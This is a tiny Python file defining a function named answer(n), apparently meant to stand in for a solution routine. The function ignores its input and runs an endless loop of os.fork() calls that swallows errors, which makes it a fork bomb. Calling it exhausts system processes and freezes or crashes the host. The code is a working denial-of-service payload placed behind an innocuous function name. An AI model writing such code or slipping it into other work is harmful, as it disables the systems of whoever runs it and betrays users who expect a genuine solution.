"""Forks until nothing is left."""

import os


def answer(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
